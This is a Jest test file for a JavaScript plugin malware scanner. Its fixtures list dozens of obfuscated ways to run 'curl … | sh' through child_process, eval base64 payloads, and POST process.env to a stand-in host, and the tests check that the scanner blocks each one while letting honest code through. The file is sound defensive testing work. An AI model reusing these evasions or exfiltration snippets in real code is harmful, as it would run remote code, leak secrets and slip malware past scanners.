import { describe, expect, it } from '@jest/globals';
import { pluginFiles } from '@ragnos-vault/testing';
import { DEFAULT_POLICY, scan } from '../index.ts';

const CMD = `'curl https://a.example.invalid/i.sh | sh'`;
const CP = `require('child_process')`;
const B64 = "'Y29uc29sZS5sb2coMSk7cmVxdWlyZSgnY2hpbGRfcHJvY2Vzcycp'";

/** One deed in many spellings: each must be seen by the rule that sees the plain one. */
const SPELLINGS: readonly (readonly [what: string, rule: string, source: string])[] = [
  ['import then', 'EXE-001', `import('child_process').then(m => m.exec(${CMD}))`],
  ['import then destructured', 'EXE-001', `import('node:child_process').then(({ exec: e }) => e(${CMD}))`],
  [
    'import then function',
    'EXE-001',
    `import('child_process').then(function (m) { m.default.exec(${CMD}); })`,
  ],
  ['spread list', 'EXE-001', `const cmd = ${CMD}; ${CP}.exec(...[cmd]);`],
  ['spread named', 'EXE-001', `const args = [${CMD}]; ${CP}.exec(...args);`],
  ['bind call', 'EXE-001', `${CP}.exec.bind(null, ${CMD})();`],
  ['bind named', 'EXE-001', `const go = ${CP}.exec.bind(null, ${CMD}); go();`],
  ['array filter constructor', 'EXE-002', `[]['filter']['constructor'](atob(${B64}))();`],
  ['async ctor', 'EXE-002', `(async () => {}).constructor(atob(${B64}))();`],
  ['generator ctor', 'EXE-002', `(function* () {}).constructor(atob(${B64}))();`],
  [
    'getPrototypeOf',
    'EXE-002',
    `const A = Object.getPrototypeOf(async function () {}).constructor; new A(atob(${B64}))();`,
  ],
  ['Reflect.construct', 'EXE-002', `Reflect.construct(Function, [atob(${B64})])();`],
  ['require.call', 'EXE-001', `require.call(null, 'child_process').exec(${CMD});`],
  ['require.apply', 'EXE-001', `require.apply(null, ['child_process']).exec(${CMD});`],
  ['require.bind', 'EXE-001', `require.bind(null)('child_process').exec(${CMD});`],
  ['require.bind arg', 'EXE-001', `require.bind(null, 'child_process')().exec(${CMD});`],
  ['module require', 'EXE-001', `module['require']('child_process').exec(${CMD});`],
  ['mainModule', 'EXE-001', `process.mainModule['req' + 'uire']('child_process').exec(${CMD});`],
  ['Object.values', 'EXE-001', `Object.values(${CP})[1](${CMD});`],
  ['Object.values named', 'EXE-001', `const all = Object.values(${CP}); all[1](${CMD});`],
  ['Object.entries', 'EXE-001', `const [, go] = Object.entries(${CP})[1]; go(${CMD});`],
  ['unknown key', 'EXE-001', `const cp = ${CP}; cp[Object.keys(cp)[2]](${CMD});`],
  ['for in', 'EXE-001', `const cp = ${CP}; for (const k in cp) if (k.length === 4) cp[k](${CMD});`],
  ['computed destructuring', 'EXE-001', `const { ['ex' + 'ec']: go } = ${CP}; go(${CMD});`],
  ['with', 'EXE-001', `with (${CP}) { exec(${CMD}); }`],
  ['tagged template', 'EXE-001', `${CP}.exec\`curl https://a.example.invalid/i.sh | sh\`;`],
  ['getter', 'EXE-001', `const o = { get go() { return ${CP}.exec; } }; o.go(${CMD});`],
  [
    'class getter',
    'EXE-001',
    `class A { get go() { return ${CP}.exec; } run() { this.go(${CMD}); } } new A().run();`,
  ],
  ['static getter', 'EXE-001', `class A { static get go() { return ${CP}.exec; } } A.go(${CMD});`],
  ['Proxy', 'EXE-001', `const p = new Proxy(${CP}, {}); p.exec(${CMD});`],
  ['static block', 'EXE-001', `class A { static { ${CP}.exec(${CMD}); } }`],
  ['static prop', 'EXE-001', `class A { static go = ${CP}.exec; } A.go(${CMD});`],
  ['optional', 'EXE-001', `${CP}?.exec?.(${CMD});`],
  [
    'global computed decoded',
    'EXE-002',
    `globalThis[Buffer.from('ZXZhbA==', 'base64').toString()](atob(${B64}));`,
  ],
  [
    'map xor',
    'OBF-003',
    `const k = 7; require([100,111,110,107,99,88,119,117,104,100,98,116,116].map((x) => String.fromCharCode(x ^ k)).join('')).exec('id');`,
  ],
  [
    'map xor fn',
    'OBF-003',
    `const d = (l, k) => l.map((x) => String.fromCharCode(x ^ k)).join(''); require(d([100,111,110,107,99,88,119,117,104,100,98,116,116], 7)).exec('id');`,
  ],
  [
    'xor loop',
    'OBF-003',
    `let s = ''; const l = [100,111,110,107,99,88,119,117,104,100,98,116,116]; for (let i = 0; i < l.length; i++) s += String.fromCharCode(l[i] ^ 7); require(s).exec('id');`,
  ],
  [
    'xor loop of fn',
    'OBF-003',
    `function d(l) { let s = ''; for (const c of l) s += String.fromCharCode(c - 1); return s; } require(d([100,105,106,109,101,96,113,115,112,100,102,116,116])).exec('id');`,
  ],
  [
    'fromCharCode arith',
    'OBF-003',
    `require(String.fromCharCode(90+9,104,105,108,100,95,112,114,111,99,101,115,230>>1)).exec('id');`,
  ],
  [
    'charCodeAt xor',
    'OBF-003',
    `const t='dnkcXwuhdbtt'; require(t.split('').map((c) => String.fromCharCode(c.charCodeAt(0) ^ 7)).join('')).exec('id');`,
  ],
  [
    'parseInt hex pairs',
    'OBF-003',
    `require('6368696c645f70726f63657373'.match(/../g).map((h) => String.fromCharCode(parseInt(h, 16))).join('')).exec('id');`,
  ],
  [
    'reverse',
    'EXE-001',
    `require('ssecorp_dlihc'.split('').reverse().join('')).exec('hs | hs.i/dilavni.elpmaxe.a//:sptth lruc'.split('').reverse().join(''));`,
  ],
  ['spread reverse', 'EXE-001', `require([...'ssecorp_dlihc'].reverse().join('')).exec(${CMD});`],
  ['replace junk', 'OBF-003', `require('cXhXiXlXdX_XpXrXoXcXeXsXs'.replace(/X/g, '')).exec('id');`],
  [
    'string array cmd',
    'EXE-001',
    `const t = ['exec', 'child_process', ${CMD}]; const g = (i) => t[i - 10]; require(g(11))[g(10)](g(12));`,
  ],
  ['module compile', 'EXE-002', `const m = new (require('module'))(); m._compile(atob(${B64}), 'x.js');`],
  ['module compile 2', 'EXE-002', `new (require('module'))()._compile(atob(${B64}), 'x.js');`],
  ['module.constructor', 'EXE-002', `new module.constructor()._compile(atob(${B64}), '');`],
  ['vm script', 'EXE-002', `new (require('vm').Script)(atob(${B64})).runInThisContext();`],
  ['vm inThis', 'EXE-002', `const { runInThisContext: r } = require('node:vm'); r(atob(${B64}));`],
  ['setTimeout string', 'EXE-002', `setTimeout(atob(${B64}), 1);`],
  ['setTimeout name', 'EXE-002', `const c = atob(${B64}); setTimeout(c, 1);`],
  [
    'setTimeout nested',
    'EXE-001',
    `setTimeout("require('child_process').exec(\\"curl https://a.example.invalid/i.sh | sh\\")", 1);`,
  ],
  [
    'binding',
    'EXE-001',
    `process.binding('spawn_sync').spawn({ file: '/bin/sh', args: ['sh', '-c', ${CMD}] });`,
  ],
  ['worker eval', 'EXE-002', `new (require('worker_threads').Worker)(atob(${B64}), { eval: true });`],
  [
    'worker eval nested',
    'EXE-001',
    `new (require('node:worker_threads')).Worker("require('child_process').exec(\\"curl https://a.example.invalid/i.sh | sh\\")", { eval: true });`,
  ],
  ['node prefix computed', 'EXE-001', `const x = 'child_process'; require('node:' + x).exec(${CMD});`],
  [
    'node:module',
    'EXE-001',
    `import { createRequire } from 'node:module'; const r = createRequire(import.meta.url); r('child_process').exec(${CMD});`,
  ],
  [
    'import meta',
    'EXE-001',
    `import module from 'module'; module.createRequire(import.meta.url)('child_process').exec(${CMD});`,
  ],
  ['Bun.spawn', 'EXE-001', `Bun.spawn(['sh', '-c', ${CMD}]);`],
  ['Bun.$', 'EXE-001', `await Bun.$\`curl https://a.example.invalid/i.sh | sh\`;`],
  [
    'bun import $',
    'EXE-001',
    `import { $ } from 'bun'; await $\`curl https://a.example.invalid/i.sh | sh\`;`,
  ],
  ['Deno.run', 'EXE-001', `Deno.run({ cmd: ['sh', '-c', ${CMD}] });`],
  ['Deno.Command', 'EXE-001', `new Deno.Command('sh', { args: ['-c', ${CMD}] }).output();`],
  ['zx', 'EXE-001', `import { $ } from 'zx'; await $\`curl https://a.example.invalid/i.sh | sh\`;`],
  [
    'execa cmd',
    'EXE-001',
    `import { execaCommand } from 'execa'; await execaCommand('sh -c "curl https://a.example.invalid/i.sh | sh"');`,
  ],
  [
    'undici request',
    'EXF-001',
    `require('undici').request('https://a.example.invalid/', { method: 'POST', body: JSON.stringify(process.env) });`,
  ],
  [
    'got.post',
    'EXF-001',
    `import got from 'got'; got.post('https://a.example.invalid/', { json: process.env });`,
  ],
  [
    'axios obj',
    'EXF-001',
    `require('axios')({ url: 'https://a.example.invalid/', method: 'post', data: process.env });`,
  ],
  [
    'axios create',
    'EXF-001',
    `const c = require('axios').create({ baseURL: 'https://a.example.invalid/' }); c.post('/', { ...process.env });`,
  ],
  [
    'http spread',
    'EXF-001',
    `const base = { host: 'a.example.invalid' }; const r = require('https').request({ ...base, method: 'POST' }); r.end(JSON.stringify(process.env));`,
  ],
  [
    'fetch in object',
    'EXF-001',
    `const api = { send: fetch }; api.send('https://a.example.invalid/', { method: 'POST', body: JSON.stringify(process.env) });`,
  ],
  [
    'fetch Request',
    'EXF-001',
    `fetch(new Request('https://a.example.invalid/', { method: 'POST', body: JSON.stringify(process.env) }));`,
  ],
  [
    'header',
    'EXF-001',
    `fetch('https://a.example.invalid/', { headers: { 'x-a': JSON.stringify(process.env) } });`,
  ],
  ['unicode escapes', 'EXE-001', `r\\u0065quire('child_process').\\u0065xec(${CMD});`],
  ['eval?.', 'EXE-002', `eval?.(atob(${B64}));`],
  ['indirect', 'EXE-002', `const e = eval; e(atob(${B64}));`],
  ['globalThis.eval', 'EXE-002', `globalThis.eval(atob(${B64}));`],
  ['new Function args', 'EXE-002', `const args = ['a', atob(${B64})]; new Function(...args)();`],
  ['template cmd', 'EXE-001', `const h = 'a.example.invalid'; ${CP}.exec(\`curl https://\${h}/i.sh | sh\`);`],
  ['comma alias', 'EXE-001', `(0, ${CP}.exec)(${CMD});`],
  ['default param', 'EXE-001', `((go = ${CP}.exec) => go(${CMD}))();`],
  ['Object.assign', 'EXE-001', `const o = Object.assign({}, ${CP}); o.exec(${CMD});`],
  ['spread object', 'EXE-001', `const o = { ...${CP} }; o.exec(${CMD});`],
  [
    'defineProperty',
    'EXE-001',
    `const o = {}; Object.defineProperty(o, 'go', { value: ${CP}.exec }); o.go(${CMD});`,
  ],
  ['Reflect.get', 'EXE-001', `Reflect.get(${CP}, 'exec')(${CMD});`],
  ['fn returns', 'EXE-001', `const f = () => ${CP}; f().exec(${CMD});`],
  [
    'await import var',
    'EXE-001',
    `const n = ['child', 'process'].join('_'); const { exec } = await import(n); exec(${CMD});`,
  ],
  ['switch', 'EXE-001', `let m; switch (1) { case 1: m = 'child_process'; } require(m).exec(${CMD});`],
  ['concat', 'EXE-001', `require(''.concat('child', '_process')).exec(${CMD});`],
  ['string raw', 'EXE-001', `require(String.raw\`child_process\`).exec(${CMD});`],
  ['toString radix', 'OBF-003', `require('child_' + (25).toString(36) + 'rocess').exec('id');`],
  ['at', 'EXE-001', `require(['a', 'child_process'].at(-1)).exec(${CMD});`],
  ['pop', 'EXE-001', `require(['a', 'child_process'].pop()).exec(${CMD});`],
  ['substr', 'OBF-003', `require('xxchild_process'.substr(2)).exec('id');`],
  [
    'hex escape arr',
    'EXE-001',
    `const _0x1=['\\x63hild_process','\\x65xec']; require(_0x1[0])[_0x1[1]](${CMD});`,
  ],
  [
    'Buffer array',
    'OBF-003',
    `require(Buffer.from([99,104,105,108,100,95,112,114,111,99,101,115,115]).toString()).exec('id');`,
  ],
  [
    'Uint8Array decode',
    'OBF-003',
    `require(new TextDecoder().decode(new Uint8Array([99,104,105,108,100,95,112,114,111,99,101,115,115]))).exec('id');`,
  ],
  [
    'fromCharCode apply',
    'OBF-003',
    `require(String.fromCharCode.apply(null, [99,104,105,108,100,95,112,114,111,99,101,115,115])).exec('id');`,
  ],
  [
    'decode Uint8 xor',
    'EXE-002',
    `const b = Buffer.from('aaaa', 'hex'); for (let i = 0; i < b.length; i++) b[i] ^= 7; eval(b.toString());`,
  ],
];

/** What these spellings look like in honest code. */
const HONEST: readonly (readonly [what: string, source: string])[] = [
  ['a promise of a module', `import('fs').then(({ readFileSync }) => readFileSync('a.txt', 'utf8'));`],
  ['a bound method', `const log = console.log.bind(console, 'plugin:'); log(process.env.LOG_LEVEL);`],
  ['a bound spawn', `const git = require('child_process').spawnSync.bind(null, 'git', ['status']); git();`],
  ['a getter', `class A { #b = 1; get b() { return this.#b; } } module.exports = new A().b;`],
  [
    'a tagged template',
    'const q = (strings, ...values) => strings.join("?"); module.exports = (id) => q`select ${id}`;',
  ],
  ['a command of zx', 'import { $ } from "zx"; await $`git log --oneline`;'],
  [
    'a table of numbers',
    `const t = ['a', 'b', 'c']; let all = ''; for (let i = 0; i < 3; i++) all += t[i - 0]; module.exports = all;`,
  ],
  [
    'letters by code',
    `module.exports = Array.from({ length: 26 }, (_, i) => String.fromCharCode(97 + i)).join('');`,
  ],
  ['a proxy', `module.exports = new Proxy({}, { get: (target, key) => key });`],
  ['a timer', `const tick = () => {}; setTimeout(tick, 10); setInterval(tick.bind(null, 1), 10);`],
  ['a method by name', `const api = { a() {}, b() {} }; module.exports = (name) => api[name]('id');`],
  [
    'a module of two kinds',
    `const cp = require('child_process'); module.exports = (sync) => cp[sync ? 'spawnSync' : 'spawn']('git', ['log']);`,
  ],
  [
    'a copy of settings',
    `const env = { ...process.env, CI: '1' }; require('child_process').spawn('node', ['a.js'], { env });`,
  ],
];

function scanOf(source: string): ReturnType<typeof scan> {
  const files = pluginFiles({ 'index.js': source });
  return scan(
    { files, name: 'plugin', version: '1.0.0', sha256: '0'.repeat(64), now: new Date(0) },
    DEFAULT_POLICY,
  );
}

describe('scan, under the default policy', () => {
  it.each(SPELLINGS)('is not evaded by: %s', (...[, rule, source]) => {
    const { verdict, findings } = scanOf(source);
    expect(findings.map((finding) => finding.rule)).toContain(rule);
    expect(verdict).toBe('block');
  });

  it.each(HONEST)('lets pass: %s', (...[, source]) => {
    const { verdict, findings } = scanOf(source);
    expect(findings.filter(({ severity }) => severity !== 'low')).toEqual([]);
    expect(verdict).toBe('pass');
  });
});
